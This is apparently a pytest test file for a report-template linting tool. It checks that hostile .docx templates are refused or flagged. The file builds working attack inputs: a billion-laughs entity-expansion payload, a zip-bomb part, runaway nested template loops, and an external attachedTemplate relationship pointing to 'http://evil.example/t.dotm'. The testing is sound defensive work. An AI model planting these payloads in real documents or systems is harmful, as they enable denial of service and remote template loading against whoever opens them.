"""Hostile templates given to ``template lint`` or used by ``report``: a template error.

Corrupt parts, XML entity expansion, a zip bomb and endless nested loops are each
refused with a Chinese message (exit 6), quickly and without inflating anything;
an external relationship (a remote URL) is flagged by lint and never reaches a
generated report.
"""

from __future__ import annotations

import time
import zipfile
from pathlib import Path

import pytest

from tests.conftest import REPO

FSR = REPO / "templates" / "fsr.docx"
AS_OF = "2026-11-27"


def rewrite(src: Path, dst: Path, replace: dict[str, bytes], extra: dict[str, bytes] = ()) -> Path:
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = replace.get(info.filename, zin.read(info.filename))
            zout.writestr(info.filename, data)
        for name, data in dict(extra).items():
            zout.writestr(name, data)
    return dst


def part(name: str) -> bytes:
    with zipfile.ZipFile(FSR) as z:
        return z.read(name)


BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
        for i in range(1, 10)
    )
    + b']><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    + b"<w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>"
)


def _hostile(tmp_path: Path, kind: str) -> Path:
    dst = tmp_path / "fsr.docx"
    if kind == "corrupt-document":
        return rewrite(FSR, dst, {"word/document.xml": part("word/document.xml")[:-200]})
    if kind == "corrupt-content-types":
        return rewrite(FSR, dst, {"[Content_Types].xml": b"<Types><Default"})
    if kind == "entities":
        return rewrite(FSR, dst, {"word/document.xml": BILLION_LAUGHS})
    if kind == "zip-bomb":
        return rewrite(FSR, dst, {}, {"word/media/bomb.xml": b"\0" * (64 * 1024 * 1024)})
    if kind == "not-a-zip":
        dst.write_bytes(b"PK\x03\x04 not really a zip")
        return dst
    raise AssertionError(kind)


HOSTILE = {
    "corrupt-document": "word/document.xml",
    "corrupt-content-types": "[Content_Types].xml",
    "entities": "实体",
    "zip-bomb": "压缩炸弹",
    "not-a-zip": "不是 .docx",
}


@pytest.mark.parametrize("kind", list(HOSTILE))
def test_lint_refuses_a_hostile_template(xmgl, tmp_path, kind):
    path = _hostile(tmp_path, kind)
    started = time.monotonic()
    r = xmgl("template", "lint", path)
    assert r.exit_code == 6, r.output
    assert HOSTILE[kind] in r.stderr
    assert "内部错误" not in r.output and "Traceback" not in r.output
    assert time.monotonic() - started < 10


@pytest.mark.parametrize("kind", list(HOSTILE))
def test_report_refuses_a_hostile_dossier_template(xmgl, example, kind):
    (example / "templates").mkdir()
    _hostile(example / "templates", kind)
    r = xmgl("-C", example, "--as-of", AS_OF, "report", "fsr")
    assert r.exit_code == 6, r.output
    assert HOSTILE[kind] in r.stderr
    assert not (example / "reports").exists() or not any((example / "reports").iterdir())


def _with_loops(tmp_path: Path) -> Path:
    xml = part("word/document.xml").decode()
    loops = "{% for a in range(100000) %}{% for b in range(100000) %}x{% endfor %}{% endfor %}"
    at = xml.index("<w:t>") + len("<w:t>")
    xml = xml[:at] + loops + xml[at:]
    return rewrite(FSR, tmp_path / "fsr.docx", {"word/document.xml": xml.encode()})


def test_nested_loops_are_stopped_quickly(xmgl, example):
    (example / "templates").mkdir()
    _with_loops(example / "templates")
    started = time.monotonic()
    r = xmgl("-C", example, "--as-of", AS_OF, "report", "fsr")
    assert r.exit_code == 6, r.output
    assert "循环" in r.stderr
    assert time.monotonic() - started < 40


EXTERNAL = (
    b'<Relationship Id="rIdEvil" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
)


def _with_external(folder: Path) -> Path:
    rels = part("word/_rels/document.xml.rels").replace(
        b"</Relationships>", EXTERNAL + b"</Relationships>"
    )
    return rewrite(FSR, folder / "fsr.docx", {"word/_rels/document.xml.rels": rels})


def test_lint_flags_an_external_relationship(xmgl, tmp_path):
    path = _with_external(tmp_path)
    r = xmgl("template", "lint", path, "--format", "json")
    assert r.exit_code == 0, r.output  # a warning: the report strips it
    assert '"code": "external-relationship"' in r.stdout
    assert '"severity": "warning"' in r.stdout
    assert "http://evil.example/t.dotm" in r.stdout


def test_a_report_never_carries_an_external_relationship(xmgl, example):
    (example / "templates").mkdir()
    _with_external(example / "templates")
    r = xmgl("-C", example, "--as-of", AS_OF, "report", "fsr")
    assert r.exit_code == 0, r.output
    (out,) = (example / "reports").glob("*.docx")
    with zipfile.ZipFile(out) as z:
        for name in z.namelist():
            if name.endswith(".rels"):
                data = z.read(name)
                assert b'TargetMode="External"' not in data, name
                assert b"evil.example" not in data
    import docx

    assert docx.Document(out).paragraphs  # still a valid document
